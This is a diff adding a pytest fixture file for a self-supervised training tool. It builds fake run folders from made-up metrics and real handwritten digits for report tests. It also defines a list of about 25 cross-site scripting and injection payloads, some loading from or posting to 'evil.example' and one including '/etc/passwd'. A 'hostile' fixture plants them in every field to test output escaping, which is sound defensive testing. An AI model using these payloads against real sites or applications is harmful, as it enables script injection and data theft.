@@ -1,0 +1,213 @@
+"""A run folder as `selfsup pretrain` and `selfsup evaluate` leave it, from made-up figures and real handwritten digits."""
+
+import csv
+import json
+import math
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pytest
+from safetensors.numpy import save_file
+
+from selfsup.report import save_sample, save_views
+
+COUNTS = (1, 2, 5, 10, 20, 50, 100)
+CURVES = {"encoder": (0.719, 0.982), "pixels_pca": (0.569, 0.962), "untrained": (0.601, 0.958), "scratch": (0.452, 0.978)}
+
+
+def config(run: Path, **changes: Any) -> dict[str, Any]:
+    digits = [str(digit) for digit in range(10)]
+    return {
+        "method": "simclr",
+        "options": {"temperature": 0.2, "hidden_size": 512, "projection_size": 128, "colour_strength": 0.5, "blur": False},
+        "encoder": {"name": "small", "channels": 1, "image_size": 32},
+        "data": {
+            "source": "/data/digits",
+            "items": 1797,
+            "skipped": 3,
+            "classes": digits,
+            "fingerprint": "9f86d081884c7d659a2feaa0c55ad015",
+            "image_size": 32,
+            "channels": 1,
+        },
+        "training": {
+            "steps": 1400,
+            "epochs": 200,
+            "minutes": None,
+            "batch_size": 256,
+            "lr": 0.001,
+            "optimizer": "adamw",
+            "weight_decay": 0.0001,
+            "schedule": "cosine",
+            "warmup": 0.05,
+            "precision": "fp32",
+            "seed": 0,
+            "devices": 1,
+            "device": "cpu",
+            "threads": 2,
+        },
+        "versions": {"selfsup": "0.1.0", "torch": "2.13.0", "numpy": "2.4.6", "python": "3.11.7"},
+        "command": f"selfsup pretrain simclr /data/digits --out {run} --epochs 200 --temperature 0.2 --colour-strength 0.5 --no-blur",
+        **changes,
+    }
+
+
+def metric_lines(steps: int = 1400, every: int = 10) -> list[dict[str, Any]]:
+    """Loss, rate and speed, every tenth of the run the monitors, and a collapse that passes."""
+    noise = np.random.default_rng(0)
+    lines: list[dict[str, Any]] = []
+    for step in range(every, steps + 1, every):
+        progress = step / steps
+        at = {"step": step, "images": 256 * step, "seconds": 85 * progress}
+        lr = 1e-3 * min(progress / 0.05, 0.5 * (1 + math.cos(math.pi * progress)))
+        loss = 4.1 + 2.1 * math.exp(-6 * progress) + noise.normal(0, 0.05)
+        lines.append({**at, "loss": loss, "lr": lr, "items_per_second": 4200 + noise.normal(0, 160), "accuracy": 0.9 - 0.8 * math.exp(-5 * progress)})
+        if math.floor(10 * progress) > math.floor(10 * (step - every) / steps):
+            rank = 4 + 60 * progress**0.7 * (1.1 - 0.25 * progress)
+            shape = {"deviation": 0.3 + 0.5 * progress**0.5, "alignment": 0.9 - 0.5 * progress, "uniformity": -0.6 - 2.4 * progress**0.6}
+            lines.append({**at, "rankme": rank, **shape, "knn_top1": 0.62 + 0.34 * progress**0.5})
+    warning = "The vectors use only 4.2 of 128 directions: the encoder is about to collapse. Likely cause: the learning rate is too high early on."
+    for step in (20, 30, 40):
+        lines.append({"step": step, "images": 256 * step, "seconds": 85 * step / steps, "warning": warning})
+    return sorted(lines, key=lambda line: line["step"])
+
+
+def evaluation() -> dict[str, Any]:
+    found: dict[str, Any] = {}
+    for name, (first, last) in CURVES.items():
+        few = {}
+        for count in COUNTS:
+            progress = (math.log(count) / math.log(100)) ** 0.55
+            mean, half = first + (last - first) * progress, 0.028 * (1.15 - progress)
+            few[str(count)] = {"mean": mean, "low": mean - half, "high": mean + half}
+        found[name] = {"knn_top1": last - 0.004, "linear_top1": last + 0.006, "few_label": few}
+    found["scratch"] |= {"knn_top1": None, "linear_top1": 0.986}
+    protocol = {"train": "/data/digits/train", "test": "/data/digits/test", "k": 200, "temperature": 0.1, "seeds": 5, "checkpoint": "last"}
+    return {**found, "protocol": protocol}
+
+
+def sample_arrays() -> dict[str, Any]:
+    """Digits as thumbnails, and vectors in which the classes are clusters that touch."""
+    from sklearn.datasets import load_digits
+
+    images, labels = load_digits(return_X_y=True)
+    draw = np.random.default_rng(0)
+    keep = np.sort(draw.permutation(len(images))[:240])
+    pixels = (images[keep].reshape(-1, 8, 8, 1) * (255 / 16)).astype(np.uint8).repeat(4, axis=1).repeat(4, axis=2)
+    z = images[keep] @ draw.normal(size=(64, 48)) / 30 + 2.0 * draw.normal(size=(10, 48))[labels[keep]]
+    names = [f"{labels[i]}/digit-{i:04d}.png" for i in keep]
+    return {"embeddings": z.astype(np.float32), "thumbnails": pixels, "labels": labels[keep], "names": names}
+
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(2)</script>",
+    "</SCRIPT ><svg onload=alert(3)>",
+    "<img src=x onerror=alert(4)>",
+    '"><img src=x onerror=alert(5)>',
+    "'><svg/onload=alert(6)>",
+    '" onmouseover="alert(7)" x="',
+    "' autofocus onfocus='alert(8)' tabindex='0",
+    "` onerror=`alert(9)`",
+    "<iframe src=javascript:alert(10)></iframe>",
+    "<iframe srcdoc='<script>alert(11)</script>'></iframe>",
+    "<a href=javascript:alert(12)>click</a>",
+    "javascript:alert(13)",
+    "<!--<script>alert(14)//-->",
+    "--><script>alert(15)</script>",
+    "<style>@import 'http://evil.example/16.css';</style>",
+    "</style><script>alert(17)</script>",
+    "<link rel=stylesheet href=http://evil.example/18.css>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/19'>",
+    "<base href=http://evil.example/20/>",
+    "<form action=http://evil.example/21><button autofocus>x</button></form>",
+    "<object data=http://evil.example/22></object><embed src=http://evil.example/22>",
+    "{{ 7 * 7 }}{% include '/etc/passwd' %}${alert(23)}",
+    "\\u003cscript\\u003ealert(24)\\u003c/script\\u003e\u2028alert(24)",
+    "\u202e<math><mtext></title><img src=http://evil.example/25.png onerror=alert(25)>\ud800\x00",
+)
+"""File names and the like that want to be markup or script; the last one also turns the text around, and is no valid UTF-8."""
+
+
+def hostile_run(run: Path) -> Path:
+    """A run in which everything that a person or a file can name is a payload."""
+    fake_run(run)
+    each = list(PAYLOADS)
+    keyed = {payload: payload for payload in each}
+    document = config(run, command=" ".join(each), method=each[1], options=keyed, versions=keyed, encoder={"name": each[4], **keyed})
+    document["data"] |= {"source": f"/data/{each[3]}", "classes": each, "fingerprint": each[5]}
+    document["training"] |= {"optimizer": each[0], "schedule": each[3], "device": each[9], "precision": each[2]}
+    write_json(run / "config.json", document)
+    lines = metric_lines()[:40]
+    for i, payload in enumerate(each):
+        lines[i][f"loss{payload}"] = float(i)
+        lines.append({"step": 10_000 + i, "warning": payload})
+    (run / "metrics.jsonl").write_text("\n".join(json.dumps(line) for line in lines))
+    best = {"step": 200, "measure": each[1], "value": 3.0}
+    write_json(run / "status.json", {"state": each[3], "step": 1, "steps": 2, "seconds": 3.0, "best": best, "message": " ".join(each)})
+    with (run / "skipped.csv").open("w", newline="", encoding="utf-8", errors="replace") as file:
+        csv.writer(file).writerows([["name", "reason"], *([payload, payload] for payload in each)])
+    write_json(run / "evaluation.json", evaluation() | {"protocol": keyed})
+    arrays = sample_arrays()
+    labels = np.arange(len(arrays["names"])) % len(each)
+    save_sample(run, **arrays | {"labels": labels, "names": [each[label] for label in labels]})
+    save_views(run, arrays["thumbnails"][:8], {payload[:60]: arrays["thumbnails"][:8] for payload in each[:10]})
+    return run
+
+
+def write_json(path: Path, value: Any) -> None:
+    path.write_text(json.dumps(value), encoding="utf-8")
+
+
+def fake_run(run: Path) -> Path:
+    """A finished and evaluated run."""
+    run.mkdir(parents=True)
+    write_json(run / "config.json", config(run))
+    lines = [json.dumps(line) for line in metric_lines()]
+    (run / "metrics.jsonl").write_text("\n".join(lines) + "\n")
+    best = {"step": 980, "measure": "rankme", "value": 47.3}
+    write_json(run / "status.json", {"state": "finished", "step": 1400, "steps": 1400, "seconds": 85.0, "best": best, "message": ""})
+    reasons = ["cut short: 4,096 of 9,120 bytes", "not an image", "empty file"]
+    rows = [f'"holiday/{name}.jpg","{reason}"' for name, reason in zip(("IMG_0031", "notes", "IMG_0107"), reasons, strict=True)]
+    (run / "skipped.csv").write_text("name,reason\n" + "\n".join(rows) + "\n")
+    write_json(run / "evaluation.json", evaluation())
+    arrays = sample_arrays()
+    save_sample(run, **arrays)
+    original = arrays["thumbnails"][:8]
+    shifted = {"first": np.roll(original, 5, axis=2) // 2 + 40, "second": np.flip(np.roll(original, -4, axis=1), axis=2).copy()}
+    save_views(run, original, shifted)
+    (run / "encoder").mkdir()
+    weights = {"net.0.weight": np.zeros((64, 1, 3, 3), np.float32), "net.1.running_mean": np.zeros(64, np.float32)}
+    save_file(weights, run / "encoder" / "model.safetensors")
+    return run
+
+
+@pytest.fixture(scope="session")
+def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A run that tests only read."""
+    return fake_run(tmp_path_factory.mktemp("finished") / "run")
+
+
+@pytest.fixture(scope="session")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A run that attacks its reader; tests only read it."""
+    return hostile_run(tmp_path_factory.mktemp("hostile") / "run")
+
+
+@pytest.fixture(scope="session")
+def payloads() -> tuple[str, ...]:
+    return PAYLOADS
+
+
+@pytest.fixture
+def make_run(tmp_path: Path) -> Callable[[], Path]:
+    """Makes runs that a test may change."""
+    made = []
+
+    def make() -> Path:
+        made.append(fake_run(tmp_path / f"run-{len(made)}"))
+        return made[-1]
+
+    return make
